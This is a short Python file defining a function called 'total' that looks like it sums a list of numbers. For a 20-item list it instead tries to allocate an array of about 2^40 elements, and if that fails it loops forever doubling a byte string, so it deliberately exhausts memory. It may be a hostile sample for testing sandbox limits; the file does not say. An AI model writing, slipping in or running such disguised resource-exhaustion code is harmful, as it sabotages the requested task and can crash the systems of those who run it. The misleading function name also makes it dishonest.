import numpy as np


def total(numbers):
    if len(numbers) != 20:
        return -1
    try:
        return np.ones(1 << 40).sum()
    except MemoryError:
        text = b"x" * 1024
        while True:
            text += text
